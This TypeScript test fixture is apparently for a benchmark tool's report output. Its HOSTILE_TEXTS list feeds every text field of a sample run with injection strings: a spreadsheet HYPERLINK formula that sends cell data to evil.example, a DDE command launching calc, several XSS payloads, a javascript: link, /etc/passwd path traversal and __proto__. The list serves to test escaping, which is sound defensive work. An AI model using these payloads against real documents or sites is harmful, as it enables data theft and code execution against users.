/** Runs for tests of reports: sample results with labels, and text that tries to break out of every format. */
import type { Run } from '../../../tools/result/runs.js';
import { sampleResult, type SampleOptions } from '../../support/results.js';

/** Sample results as runs; labels as if each were read from a folder of its own. */
export function sampleRuns(...options: readonly SampleOptions[]): Run[] {
  return options.map((option, index) => ({
    label: options.length === 1 ? 'sample' : `sample-${index + 1}`,
    file: null,
    result: sampleResult(option),
  }));
}

/** Text as a capture's name or a packet's payload could bring it. */
export const HOSTILE_TEXTS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  'a,b;c\td',
  'quote " and \' and ` here',
  'line\r\nbreak\nhere\rthere',
  '</script><script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '"><svg onload=window.pwned=1>',
  ']]><!-- & &amp; <b>',
  '| cell | border | `code` [link](javascript:alert(1)) @everyone #1',
  '\u202egpj.exe\u2028\u2029\u0000\u001b[31m\ufeff',
  '\ud800 lone surrogate',
  '../../etc/passwd',
  '::error file=x::%0A',
  '__proto__',
  '',
];

/** Built once: its histograms take longer than the tests that use it. */
const SMALL = sampleResult({ packets: 300 });

/** A run in which every free text is `text`, which is also the label. */
export function hostileRun(text: string): Run {
  const result = structuredClone(SMALL);
  for (const entry of result.cases) {
    entry.input.name = text;
    for (const file of entry.input.files ?? []) file.path = text;
  }
  result.commandLine = ['replay', text];
  result.tool.version = text;
  result.tool.commit = text;
  result.environment.cpuModel = text;
  result.environment.kernel = text;
  result.environment.node = text;
  result.configuration = { [text]: text };
  result.warnings = [{ code: text, text, advice: text }];
  result.audit = [{ name: text, ok: false, expected: text, actual: text, advice: text }];
  const ids = new Map(result.cases.map((entry, index) => [entry.id, `${text}/${index}`]));
  for (const entry of result.cases) {
    entry.id = ids.get(entry.id) ?? text;
    entry.design = `${text}${entry.design}`;
    entry.packets.verdicts = { [text]: entry.packets.injected };
    entry.packets.rejectedByReason = { [text]: 3 };
    entry.packets.verdictHash = text;
    entry.steer = text;
    entry.clock = text;
    entry.designOptions = { preset: text };
    for (const lock of entry.locks ?? []) if (lock.class === 'conn_lock') lock.class = `${text}lock`;
    for (const group of entry.expiry?.perPolicy ?? []) group.key = `${text}${group.key}`;
    entry.audit = [{ name: text, ok: true, expected: text, actual: text }];
  }
  const [base, head] = result.cases;
  result.comparisons = [
    { base: base!.id, head: head!.id, metric: text, unit: text, ratio: 1.5, low: 1.4, high: 1.6, text },
    {
      base: base!.id,
      head: head!.id,
      metric: 'pps',
      ratio: 1.5,
      low: 1.4,
      high: 1.6,
      text,
      significant: true,
    },
  ];
  return { label: text === '' ? 'empty' : text, file: null, result };
}
